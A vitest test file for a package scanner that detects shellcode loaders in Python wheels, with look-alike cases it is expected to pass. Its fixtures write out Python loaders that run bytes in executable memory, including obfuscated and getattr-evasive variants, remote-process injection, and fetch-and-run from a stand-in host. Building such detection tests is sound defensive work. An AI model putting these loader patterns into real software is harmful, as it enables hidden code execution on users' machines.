import { expect, test } from 'vitest';
import { inspect, python, wheel } from '../../support/inspect.ts';
import { judge, pointsOf } from './judge.ts';

test('malicious: bytes copied into executable memory and started are caught', async () => {
  const result = await judge('wheel', {
    'pkg/__init__.py':
      "import ctypes, base64\nk = ctypes.windll.kernel32\ncode = base64.b64decode('AQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyAhIiMkJSYnKCkqKywtLi8wMTIzNDU2Nzg5Ojs8PT4/QEFCQ0RFRkdISUpLTE1OT1BRUlNUVVZXWFlaW1xdXl9gYWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXp7fH1+f4CBgoOEhYaHiImKi4yNjo+QkZKTlJWWl5iZmpucnZ6foKGio6SlpqeoqaqrrK2ur7CxsrO0tba3uLm6u7y9vr/AwcLDxMXGxwECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8gISIjJCUmJygpKissLS4vMDEyMzQ1Njc4OTo7PD0+P0BBQkNERUZHSElKS0xNTk9QUVJTVFVWV1hZWltcXV5fYGFiY2RlZmdoaWprbG1ub3BxcnN0dXZ3eHl6e3x9fn+AgYKDhIWGh4iJiouMjY6PkJGSk5SVlpeYmZqbnJ2en6ChoqOkpaanqKmqq6ytrq+wsbKztLW2t7i5uru8vb6/wMHCw8TFxsc=')\np = k.VirtualAlloc(0, len(code), 0x3000, 0x40)\nk.RtlMoveMemory(p, code, len(code))\nk.CreateThread(0, 0, p, 0, 0, 0)\n",
  });

  expect(pointsOf(result, 'shellcode')).toBeGreaterThanOrEqual(10);
});

test('look-alike: a few instructions that ask the processor are not', async () => {
  const result = await judge('wheel', {
    'pkg/__init__.py':
      "import ctypes\nk = ctypes.windll.kernel32\ncode = b'\\x0f\\xa2\\xc3'\ndef cpuid():\n    p = k.VirtualAlloc(0, 3, 0x3000, 0x40)\n    ctypes.memmove(p, code, 3)\n    return ctypes.CFUNCTYPE(None)(p)()\n",
  });

  expect(pointsOf(result, 'shellcode')).toBeLessThanOrEqual(0);
});

test('evasion: names by getattr do not hide it', async () => {
  const result = await judge('wheel', {
    'pkg/__init__.py':
      "import ctypes as c\nd = getattr(c, 'win' + 'dll')\nl = getattr(d, 'kernel32')\nblob = bytes(b ^ 1 for b in b'\\x02\\x03\\x04\\x05\\x06\\x07\\x08\\t\\n\\x0b\\x0c\\r\\x0e\\x0f\\x10\\x11\\x12\\x13\\x14\\x15\\x16\\x17\\x18\\x19\\x1a\\x1b\\x1c\\x1d\\x1e\\x1f !\"#$%&\\'()*+,-./0123456789:;<=>?@ABCDEFGHIJKLMNOPQRSTUVWXYZ[\\\\]^_`abcdefghijklmnopqrstuvwxyz{|}~\\x7f\\x80\\x81\\x82\\x83\\x84\\x85\\x86\\x87\\x88\\x89\\x8a\\x8b\\x8c\\x8d\\x8e\\x8f\\x90\\x91\\x92\\x93\\x94\\x95\\x96\\x97\\x98\\x99\\x9a\\x9b\\x9c\\x9d\\x9e\\x9f\\xa0\\xa1\\xa2\\xa3\\xa4\\xa5\\xa6\\xa7\\xa8\\xa9\\xaa\\xab\\xac\\xad\\xae\\xaf\\xb0\\xb1\\xb2\\xb3\\xb4\\xb5\\xb6\\xb7\\xb8\\xb9\\xba\\xbb\\xbc\\xbd\\xbe\\xbf\\xc0\\xc1\\xc2\\xc3\\xc4\\xc5\\xc6\\xc7\\xc8\\xc9\\xca\\xcb\\xcc\\xcd\\xce\\xcf\\xd0\\xd1\\xd2\\xd3\\xd4\\xd5\\xd6\\xd7\\xd8\\xd9\\xda\\xdb\\xdc\\xdd\\xde\\xdf\\xe0\\xe1\\xe2\\xe3\\xe4\\xe5\\xe6\\xe7\\xe8\\xe9\\xea\\xeb\\xec\\xed\\xee\\xef\\xf0\\xf1\\xf2\\xf3\\xf4\\xf5\\xf6\\xf7\\xf8\\xf9\\xfa\\xfb\\x02\\x03\\x04\\x05\\x06\\x07\\x08\\t\\n\\x0b\\x0c\\r\\x0e\\x0f\\x10\\x11\\x12\\x13\\x14\\x15\\x16\\x17\\x18\\x19\\x1a\\x1b\\x1c\\x1d\\x1e\\x1f !\"#$%&\\'()*+,-./0123456789:;<=>?@ABCDEFGHIJKLMNOPQRSTUVWXYZ[\\\\]^_`abcdefghijklmnopqrstuvwxyz{|}~\\x7f\\x80\\x81\\x82\\x83\\x84\\x85\\x86\\x87\\x88\\x89\\x8a\\x8b\\x8c\\x8d\\x8e\\x8f\\x90\\x91\\x92\\x93\\x94\\x95\\x96\\x97\\x98\\x99\\x9a\\x9b\\x9c\\x9d\\x9e\\x9f\\xa0\\xa1\\xa2\\xa3\\xa4\\xa5\\xa6\\xa7\\xa8\\xa9\\xaa\\xab\\xac\\xad\\xae\\xaf\\xb0\\xb1\\xb2\\xb3\\xb4\\xb5\\xb6\\xb7\\xb8\\xb9\\xba\\xbb\\xbc\\xbd\\xbe\\xbf\\xc0\\xc1\\xc2\\xc3\\xc4\\xc5\\xc6\\xc7\\xc8\\xc9\\xca\\xcb\\xcc\\xcd\\xce\\xcf\\xd0\\xd1\\xd2\\xd3\\xd4\\xd5\\xd6\\xd7\\xd8\\xd9\\xda\\xdb\\xdc\\xdd\\xde\\xdf\\xe0\\xe1\\xe2\\xe3\\xe4\\xe5\\xe6\\xe7\\xe8\\xe9\\xea\\xeb\\xec\\xed\\xee\\xef\\xf0\\xf1\\xf2\\xf3\\xf4\\xf5\\xf6\\xf7\\xf8\\xf9\\xfa\\xfb')\na = getattr(l, 'Virtual' + 'Alloc')(0, 300, 0x3000, 0x40)\ngetattr(l, 'RtlMove' + 'Memory')(a, blob, 300)\ngetattr(l, 'Create' + 'Thread')(0, 0, a, 0, 0, 0)\n",
  });

  expect(pointsOf(result, 'shellcode')).toBeGreaterThanOrEqual(10);
});

test('wrappers of the system’s functions bring no machine code of their own', async () => {
  const file = wheel({
    'pkg/kernel.py': python(
      'import ctypes',
      'kernel32 = ctypes.windll.kernel32',
      'def run(process, data):',
      '    place = kernel32.VirtualAllocEx(process, 0, len(data), 0x3000, 0x40)',
      '    kernel32.WriteProcessMemory(process, place, data, len(data), 0)',
      '    return kernel32.CreateRemoteThread(process, None, 0, place, None, 0, None)',
    ),
  });

  expect(await inspect('shellcode', file)).toMatchObject([{ score: 4, class: 'suspicious' }]);
});

test('machine code that a function fetches is malware', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import ctypes, urllib.request',
      'def go():',
      "    code = urllib.request.urlopen('https://get.tools.invalid/code').read()",
      '    k = ctypes.windll.kernel32',
      '    at = k.VirtualAlloc(0, len(code), 0x3000, 0x40)',
      '    k.RtlMoveMemory(at, code, len(code))',
      '    k.CreateThread(0, 0, at, 0, 0, 0)',
    ),
  });

  expect(await inspect('shellcode', file)).toMatchObject([{ class: 'malware', score: 10, context: 'call' }]);
});

test('a map of memory that may run, that is written and called', async () => {
  const bytes = Array.from({ length: 160 }, (_, i) => `\\x${((i * 73 + 9) % 256).toString(16).padStart(2, '0')}`).join(
    '',
  );
  const file = (write: string, call: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python(
        'import ctypes, mmap',
        `code = b'${bytes}'`,
        'memory = mmap.mmap(-1, len(code), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)',
        write,
        call,
      ),
    });
  const call = 'ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()';

  expect(await inspect('shellcode', file('memory.write(code)', call))).toMatchObject([
    { class: 'malware', score: 10, context: 'import', line: 5 },
  ]);
  // shared memory
  expect(await inspect('shellcode', file('memory.write(code)', 'memory.flush()'))).toEqual([]);
});
